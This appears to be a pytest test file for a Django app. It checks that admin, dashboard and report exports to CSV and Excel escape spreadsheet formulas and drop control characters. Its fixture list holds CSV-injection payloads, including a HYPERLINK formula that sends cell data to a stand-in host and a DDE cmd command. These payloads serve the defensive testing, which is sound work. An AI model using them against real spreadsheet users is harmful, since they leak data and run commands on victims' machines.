"""No file the app or its admin writes runs text as a formula or fails on a character an .xlsx
cannot hold (monitoring/excel.py): narratives saved by code as formulas of each kind, and one
with a control character, through the admin's export (CSV and Excel, from the admin's own
export page too), the dashboards' tables, the submission workbook and the review workbook.

In a CSV, and in the Excel files that are not read back (the admin's export, the dashboards),
such text is written behind an apostrophe; the admin's import takes it off again. The
workbooks written by `write_table()` keep the text as it is and mark the cell as text the way
Excel marks text typed after an apostrophe (`quotePrefix`): the submission workbook comes back
to be compared with what is saved."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from import_export.formats import base_formats

from monitoring import services
from monitoring.excel import FORMULA_STARTS, neutralise, restore
from monitoring.models import ProgressEntry, Status
from monitoring.resources import ProgressEntryResource
from monitoring.workbook import reading
from monitoring.workbook.writing import submission_workbook
from programmes.models import Programme
from reports.review import annual_review
from reports.tables import Table
from reports.xlsx import review_workbook
from tests.workbooks import _upload_file

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
]
BELL = "Zvans\x07 skan"
BELL_STORED = "Zvans skan"
TEXTS = [*FORMULAS, BELL]


def _written(text: str) -> str:
    """What a CSV or an apostrophe-neutralised cell holds for `text`."""
    return BELL_STORED if text == BELL else "'" + text


@pytest.fixture
def zemgale():
    return Programme.objects.get(slug="zemgale")


@pytest.fixture
def entries(submission, zemgale):
    """Jelgava's entries of 2015 with a formula narrative each on its first four tasks (saved
    by code, past the rules), and the planning region's own entry ringing a bell."""
    nodes = services.reportable_nodes(zemgale)
    ProgressEntry.objects.filter(municipality=submission.municipality, year=2015).delete()
    by_code = {}
    for node, text in zip(nodes, FORMULAS, strict=False):
        ProgressEntry.objects.create(
            node=node,
            municipality=submission.municipality,
            year=2015,
            status=Status.IMPROVED,
            narrative=text,
        )
        by_code[(node.code, "Jelgava")] = text
    region_node = zemgale.nodes.for_region().order_by("sort_key").first()
    ProgressEntry.objects.create(
        node=region_node, municipality=None, year=2015, status=Status.PARTIAL, narrative=BELL
    )
    by_code[(region_node.code, "")] = BELL
    return by_code


def _no_formulas(book) -> list[openpyxl.cell.Cell]:
    """Every filled cell of the workbook, after checking none is a formula."""
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return cells


# --- the admin's export -------------------------------------------------------------------


def _csv_rows(content) -> dict[tuple[str, str], str]:
    """The narratives of an exported CSV by code and municipality, after checking no field
    of it starts as a formula would."""
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    rows = list(csv.DictReader(io.StringIO(text)))
    formulas = [v for row in rows for v in row.values() if v.startswith(FORMULA_STARTS)]
    assert formulas == []
    return {(row["code"], row["municipality"]): row["narrative"] for row in rows}


def _xlsx_rows(content: bytes) -> dict[tuple[str, str], openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    _no_formulas(book)
    sheet = book.active
    headers = [cell.value for cell in sheet[1]]
    column = {name: headers.index(name) for name in ("code", "municipality", "narrative")}
    return {
        (row[column["code"]].value, row[column["municipality"]].value or ""): row[
            column["narrative"]
        ]
        for row in sheet.iter_rows(min_row=2)
    }


def test_the_admin_export_writes_no_formula_in_csv(entries):
    dataset = ProgressEntryResource().export(ProgressEntry.objects.filter(year=2015))
    exported = _csv_rows(base_formats.CSV().export_data(dataset))
    assert exported == {key: _written(text) for key, text in entries.items()}


def test_the_admin_export_writes_no_formula_in_xlsx_and_does_not_fail(entries):
    dataset = ProgressEntryResource().export(ProgressEntry.objects.filter(year=2015))
    cells = _xlsx_rows(base_formats.XLSX().export_data(dataset))
    assert {key: cell.value for key, cell in cells.items()} == {
        key: _written(text) for key, text in entries.items()
    }


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_admin_export_page_writes_no_formula(client, entries, file_format):
    """The page that said "Export failed due to IllegalCharacterError"."""
    admin = get_user_model().objects.create_superuser("admin", password="parole-123456")
    client.force_login(admin)
    url = reverse("admin:monitoring_progressentry_export")
    form = client.get(url).context["form"]
    choice = next(
        value for value, label in form.fields["format"].choices if label.lower() == file_format
    )
    data = {"format": choice, "resource": 0}
    data.update({name: "on" for name in form.fields if name.startswith("progressentryresource_")})

    response = client.post(url, data)

    assert response.status_code == 200, [str(m) for m in response.context["messages"]]
    assert response["Content-Disposition"].endswith(f'.{file_format}"')
    if file_format == "csv":
        exported = _csv_rows(response.content)
    else:
        exported = {key: cell.value for key, cell in _xlsx_rows(response.content).items()}
    # The page exports the published entries too.
    assert {key: exported[key] for key in entries} == {
        key: _written(text) for key, text in entries.items()
    }


@pytest.mark.parametrize("file_format", [base_formats.CSV, base_formats.XLSX])
def test_what_the_admin_exports_imports_back_unchanged(entries, file_format):
    formulas = ProgressEntry.objects.filter(year=2015, municipality__isnull=False)
    before = sorted(formulas.values_list("node__code", "narrative"))
    content = file_format().export_data(ProgressEntryResource().export(formulas))
    dataset = file_format().create_dataset(content)

    result = ProgressEntryResource().import_data(dataset)

    assert not result.has_errors() and not result.has_validation_errors()
    assert sorted(formulas.values_list("node__code", "narrative")) == before
    assert sorted(text for _code, text in before) == sorted(FORMULAS)


@pytest.mark.parametrize("text", [*TEXTS, "'=already quoted", "''-twice", "teksts", "", 5, None])
def test_restore_gives_back_what_neutralise_was_given(text):
    expected = BELL_STORED if text == BELL else text
    assert restore(neutralise(text)) == expected


# --- the dashboards' tables ------------------------------------------------------------------


def test_the_dashboard_tables_write_no_formula():
    table = Table("t", "T", ["Kods", "Teksts"], [["1.1", text] for text in TEXTS])

    body = table.csv_response("t").getvalue().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert [row[1] for row in rows[1:]] == [_written(text) for text in TEXTS]

    book = openpyxl.load_workbook(io.BytesIO(table.xlsx_response("t").getvalue()))
    _no_formulas(book)
    assert [row[1].value for row in book.active.iter_rows(min_row=2)] == [
        _written(text) for text in TEXTS
    ]


# --- the workbooks of write_table() ------------------------------------------------------------


def _cells_with(book, texts) -> dict[str, openpyxl.cell.Cell]:
    cells = _no_formulas(book)
    found = {}
    for text in texts:
        stored = BELL_STORED if text == BELL else text
        found[text] = next(c for c in cells if isinstance(c.value, str) and stored in c.value)
    assert not any("\x07" in c.value for c in cells if isinstance(c.value, str))
    return found


def test_the_submission_workbook_keeps_formula_text_as_text(submission, entries):
    content = submission_workbook(submission)
    book = openpyxl.load_workbook(io.BytesIO(content))

    for text, cell in _cells_with(book, FORMULAS).items():
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)

    result = reading.parse_workbook(submission, _upload_file("jelgava-2015.xlsx", content))
    assert result.is_valid and result.changes == []


def test_the_review_workbook_keeps_formula_text_as_text(zemgale):
    nodes = services.reportable_nodes(zemgale)[: len(TEXTS)]
    for node, text in zip(nodes, TEXTS, strict=True):
        ProgressEntry.objects.create(
            node=node, municipality=None, year=2015, status=Status.IMPROVED, narrative=text
        )

    book = openpyxl.load_workbook(io.BytesIO(review_workbook(annual_review(zemgale, 2015))))

    cells = _cells_with(book, TEXTS)
    for text in FORMULAS:
        assert (cells[text].value, cells[text].data_type) == (text, "s")
        assert cells[text].quotePrefix
    assert cells[BELL].value == BELL_STORED
